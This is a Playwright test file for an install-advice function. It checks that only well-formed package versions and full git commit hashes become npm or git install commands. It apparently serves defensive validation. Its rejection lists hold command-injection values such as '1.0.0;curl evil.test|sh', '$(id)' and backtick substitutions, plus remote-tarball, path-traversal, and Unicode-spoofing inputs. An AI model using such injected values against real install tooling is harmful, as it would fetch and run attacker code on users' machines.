import { expect, test } from '@playwright/test';
import { installAdvice, versionOf } from '../../src/words/install-advice.ts';

test('a version of Playwright becomes a command, and a commit of Seesaw; nothing is got by the name of Seesaw alone', () => {
  expect(installAdvice('seesaw', '0.1.0', null)).toBeNull();
  expect(installAdvice('playwright', '1.57.0-alpha-2025-10-01')).toBe(
    'npm install --save-dev --save-exact @playwright/test@1.57.0-alpha-2025-10-01',
  );
  const commit = 'ab12'.repeat(10);
  expect(installAdvice('seesaw', '0.1.0', commit)).toBe(`git checkout ${commit} && npm ci`);
});

for (const version of [
  ...['', 'latest', '*', '^1.0.0', '1.0', '01.0.0', '1.0.0.0', 'v1.0.0', '1.0.0 ', '1.0.0\n', '1.0.0-'],
  ...['1.0.0 evil', '1.0.0;curl evil.test|sh', '1.0.0$(id)', '1.0.0`id`', '1.0.0&&id', "1.0.0'", '1.0.0#x'],
  ...['npm:evil@1.0.0', 'https://evil.test/x.tgz', 'file:../evil', '../evil', '1.0.0/../evil', '1.0.0@evil'],
  ...['1.0.0-\u202eevil', '1.0.0-ｅvil', '１.0.0', `1.0.0-${'a'.repeat(80)}`, '--ignore-scripts=false'],
]) {
  test(`${JSON.stringify(version)} is no version and becomes no command`, () => {
    expect(versionOf(version)).toBeNull();
    expect(installAdvice('seesaw', version, 'a'.repeat(40))).toBeNull();
    expect(installAdvice('playwright', version)).toBeNull();
  });
}

for (const commit of [
  '',
  'HEAD',
  'main',
  'abc1234',
  `${'a'.repeat(40)} --`,
  '-'.repeat(40),
  'A'.repeat(40),
]) {
  test(`${JSON.stringify(commit)} is no commit and becomes no command`, () => {
    expect(installAdvice('seesaw', '0.1.0', commit)).toBeNull();
  });
}
